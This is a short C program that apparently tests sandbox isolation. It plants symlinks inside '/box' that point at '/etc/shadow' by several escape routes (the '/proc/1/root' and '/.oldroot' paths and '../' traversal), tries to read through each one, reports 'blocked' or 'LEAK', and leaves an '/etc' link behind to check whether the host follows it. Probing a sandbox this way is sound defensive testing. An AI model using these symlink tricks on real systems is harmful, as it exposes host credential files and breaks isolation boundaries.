/* Plants symlinks in the box that point at host secrets and reads through
   them. The links stay behind for the host to (not) follow. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
	const char *targets[] = {"/etc/shadow", "/proc/1/root/etc/shadow", "/.oldroot/etc/shadow", "../../../../etc/shadow"};
	char name[64];
	for (int i = 0; i < 4; i++) {
		snprintf(name, sizeof name, "/box/link%d", i);
		symlink(targets[i], name);
		int fd = open(name, O_RDONLY);
		if (fd < 0) { printf("blocked %s -> %s: %s\n", name, targets[i], strerror(errno)); continue; }
		char b[64]; ssize_t n = read(fd, b, sizeof b);
		printf("LEAK %s -> %s (%zd bytes)\n", name, targets[i], n);
	}
	symlink("/etc", "/box/etc-link");
	return 0;
}
